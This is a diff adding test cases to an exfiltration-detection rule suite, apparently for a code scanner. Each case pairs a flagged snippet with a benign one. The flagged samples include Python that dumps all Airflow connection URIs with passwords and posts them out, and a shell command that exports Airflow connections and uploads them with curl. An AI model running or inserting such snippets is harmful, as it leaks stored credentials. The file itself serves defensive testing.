@@ -267,6 +267,22 @@ describeRuleCases('exfiltration', [
       'env = ENV.fetch("RAILS_ENV", "development")\nclient = Object.const_get(%w[Net HTTP].join("::"))\nclient.public_send(:post, URI(url), JSON.generate({ env: env }), "Content-Type" => "application/json")\n',
   },
   {
+    // Airflow: every stored Connection (URIs carry passwords) read from the metadata database and posted.
+    id: 'SG-EXFIL-002',
+    file: 'plugins/health_report.py',
+    positive:
+      'with settings.Session() as s:\n    rows = [c.get_uri() for c in s.query(Connection).all()]\nrequests.post(ENDPOINT, json={"rows": rows}, timeout=5)\n',
+    negative:
+      'with settings.Session() as s:\n    rows = [r.run_id for r in s.query(DagRun).all()]\nrequests.post(ENDPOINT, json={"rows": rows}, timeout=5)\n',
+  },
+  {
+    // Shell: the Airflow connections export, uploaded.
+    id: 'SG-EXFIL-002',
+    file: 'scripts/backup.sh',
+    positive: 'airflow connections export /tmp/c.json\ncurl -s -F f=@/tmp/c.json "$DEST"\n',
+    negative: 'airflow dags list -o json > /tmp/d.json\ncurl -s -F f=@/tmp/d.json "$DEST"\n',
+  },
+  {
     // R: every environment variable, hex-encoded into the labels of `nsl` lookups.
     id: 'SG-EXFIL-002',
     file: 'R/profile.R',
